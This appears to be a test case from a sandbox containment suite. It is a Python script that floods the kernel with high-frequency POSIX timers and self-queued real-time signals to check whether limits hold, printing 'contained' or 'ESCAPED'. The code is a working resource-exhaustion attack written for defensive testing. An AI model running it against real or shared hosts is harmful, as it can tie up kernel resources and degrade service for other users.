# Attack: 76, timers and signals that nobody takes
# Source: firecracker issue 962 (timers of a guest that keep the host's kernel busy)
# Tries: makes timers and queues signals to itself until the kernel refuses, then starts every timer at its shortest interval.
# Meets: both are counted against one limit of a few hundred, and a signal that waits stops its timer.
# Expect: contained
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGALRM, signal.SIGRTMIN])
shortest = (ctypes.c_long * 4)(0, 1, 0, 1)
timers = queued = 0
while timers < 5000:
    timer = ctypes.c_void_p()
    if libc.timer_create(1, None, ctypes.byref(timer)):
        break
    libc.timer_settime(timer, 0, ctypes.byref(shortest), None)
    timers += 1
information = ctypes.create_string_buffer(128)
ctypes.c_int.from_buffer(information, 8).value = -1
while queued < 5000 and not libc.syscall(129, os.getpid(), int(signal.SIGRTMIN), information):
    queued += 1
print("contained" if timers + queued < 1000 else f"ESCAPED: {timers} timers, {queued} signals")
